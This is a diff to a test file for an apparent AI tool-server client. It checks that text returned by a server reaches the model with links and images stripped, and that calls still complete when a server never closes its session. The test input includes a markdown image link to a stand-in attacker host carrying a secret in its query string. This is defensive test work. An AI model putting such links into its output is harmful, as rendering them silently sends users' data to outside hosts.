@@ -20,7 +20,8 @@ describe("a server's words", () => {
   });
 
   it("reach the model without links and images", async () => {
-    const text = "Here: ![p](https://evil.example/?q=secret) [track](https://evil.example/t) <img src=x> हिन्दी क्‍ष";
+    const text =
+      "Here: ![p](https://evil.example/?q=secret) [track](https://evil.example/t) www.evil.example/w <img src=x> हिन्दी क्‍ष";
     const server = await serve([
       {
         ...findParcel,
@@ -35,7 +36,10 @@ describe("a server's words", () => {
       moveParcel,
     ]);
     const { content } = await named(await create(server), "parcels_find-parcel").execute({ number: "1" }, toolCall());
-    expect(content).toMatchObject({ text: "Here: p track   हिन्दी क्‍ष", left_out: ["image", "resource_link"] });
+    expect(content).toMatchObject({
+      text: "Here: p track [link removed]   हिन्दी क्‍ष",
+      left_out: ["image", "resource_link"],
+    });
     expect(JSON.stringify(content)).not.toContain("evil.example");
   });
 
@@ -102,6 +106,19 @@ describe("a server that", () => {
     expect((await named(tools, "parcels_find-parcel").execute({ number: "1" }, toolCall())).content).toMatchObject({
       error: expect.stringContaining("too long"),
     });
+  });
+
+  it("never ends its session has answered all the same", async () => {
+    const server = await serve(undefined, "2025");
+    const tools = await create(server, { timeout_ms: 1_000 });
+    server.misbehave(({ method, body }, response) => {
+      if (body.method === "initialize") response.setHeader("mcp-session-id", "s-1");
+      return method === "DELETE";
+    });
+    expect(await named(tools, "parcels_move_parcel").execute({}, toolCall())).toMatchObject({
+      content: { text: "Moved." },
+    });
+    expect(server.received.map(({ method }) => method)).toContain("DELETE");
   });
 
   it("refuses a call, in its own words as data", async () => {
